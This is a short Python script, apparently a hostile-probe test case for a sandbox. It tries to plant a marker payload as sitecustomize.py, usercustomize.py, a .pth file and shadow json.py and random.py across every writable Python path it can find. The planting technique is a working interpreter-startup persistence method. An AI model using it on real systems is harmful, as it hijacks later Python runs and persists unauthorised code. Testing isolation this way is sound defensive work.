# tries: code that a later interpreter would run: sitecustomize, .pth, __pycache__, startup files
# kind: hostile
# outcomes: finished raised
# gap LIMITS_ONLY: the account's files are open
import os
import site
import sys
import sysconfig

code = "import builtins; builtins.mt_planted = 'BREACH planted code ran'\n"
places = [".", "/tmp", os.path.expanduser("~"), site.getusersitepackages()]
places += [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), sys.prefix, *sys.path]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "mt-breach.pth", "json.py", "random.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place or ".", name), "x") as file:
                file.write(code)
            if os.path.realpath(place or ".") != os.path.realpath("."):
                print("planted", name, "in", place)
        except OSError:
            pass
